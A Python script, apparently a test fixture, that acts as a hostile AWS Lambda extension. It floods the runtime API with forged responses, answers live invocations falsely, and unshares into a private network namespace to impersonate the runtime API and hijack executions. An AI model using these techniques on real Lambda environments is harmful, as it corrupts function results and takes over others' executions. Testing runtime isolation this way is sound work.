"""A hostile extension: makes up on the runtime API what its arguments say, until it is stopped.

flood          answers for executions that do not exist, as fast as it can
answer         answers for the execution under way, which an extension is told of
next           asks for the next invocation, as if it were a runtime
forge          in a network of its own, where another server has the runtime API's address: is
               given executions that nobody ever invoked, and answers them
steal          as forge, but is given the very execution that is under way
play ID ...    no extension: as forge, with these ids, once
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import socket
import sys
import threading
import time
import uuid

ADDRESS = os.environ["AWS_LAMBDA_RUNTIME_API"]
RUNTIME = "/2018-06-01/runtime/invocation"
CLONE_NEWNET = 0x40000000


def ask(method: str, path: str, body: str | None = None) -> int:
    api = http.client.HTTPConnection(ADDRESS, timeout=5)
    with contextlib.suppress(OSError, http.client.HTTPException):
        api.request(method, path, body)
        return api.getresponse().status
    return 0


def flood() -> None:
    while True:
        ask("POST", f"{RUNTIME}/{uuid.uuid4()}/response", '"forged"')


def serve(ids: list[str]) -> None:
    """A runtime API of its own, that gives what it is told to."""
    host, _, port = ADDRESS.rpartition(":")
    server = socket.create_server((host, int(port)))
    threading.Thread(target=answer_all, args=(server, ids), daemon=True).start()


def answer_all(server: socket.socket, ids: list[str]) -> None:
    while True:
        client, _ = server.accept()
        with client:
            request = client.recv(4096)
            if request.startswith(b"GET"):
                headers = (
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                    f"Lambda-Runtime-Aws-Request-Id: {ids[0]}\r\n"
                    "Lambda-Runtime-Deadline-Ms: 2000000000000\r\n"
                    "Lambda-Runtime-Invoked-Function-Arn: arn:aws:lambda:x\r\n"
                    "Content-Length: 2\r\n\r\n{}"
                )
                client.sendall(headers.encode())
            else:
                client.sendall(b"HTTP/1.1 202 Accepted\r\nContent-Length: 2\r\n\r\n{}")


def play(request_id: str, ids: list[str], port: int) -> None:
    """One execution of its own, as the kernel sees it."""
    ids[0] = request_id
    ask("GET", f"{RUNTIME}/next")
    with contextlib.suppress(OSError):  # what the execution would seem to have done
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    ask("POST", f"{RUNTIME}/{request_id}/response", '"forged"')


def leave_the_network() -> None:
    import ctypes
    import subprocess

    if ctypes.CDLL(None).unshare(CLONE_NEWNET) != 0:
        sys.exit("no network of its own")
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)


def main() -> None:
    what, port, *rest = sys.argv[1:]
    ids = [""]
    if what == "play":
        leave_the_network()
        serve(ids)
        for request_id in rest:
            play(request_id, ids, int(port))
        return
    api = http.client.HTTPConnection(ADDRESS)
    headers = {"Lambda-Extension-Name": "neighbour"}

    def call(method: str, path: str, body: str | None = None) -> tuple[dict, dict]:
        api.request(method, f"/2020-01-01/extension/{path}", body, headers)
        reply = api.getresponse()
        return dict(reply.headers), json.loads(reply.read() or b"{}")

    found, _ = call("POST", "register", json.dumps({"events": ["INVOKE", "SHUTDOWN"]}))
    headers["Lambda-Extension-Identifier"] = found["Lambda-Extension-Identifier"]
    if what in ("forge", "steal"):
        # The connection that is there stays where it was; what is opened from now on does not.
        leave_the_network()
        serve(ids)
    if what == "flood":
        for _ in range(2):
            threading.Thread(target=flood, daemon=True).start()
    if what == "next":
        threading.Thread(target=ask, args=("GET", f"{RUNTIME}/next"), daemon=True).start()
    while True:
        _, event = call("GET", "event/next")
        if event["eventType"] == "SHUTDOWN":
            return
        if what == "answer":
            ask("POST", f"{RUNTIME}/{event['requestId']}/response", '"forged"')
        elif what == "steal":
            time.sleep(0.05)
            play(event["requestId"], ids, int(port))
        elif what == "forge":
            for _ in range(3):
                play(str(uuid.uuid4()), ids, int(port))


main()
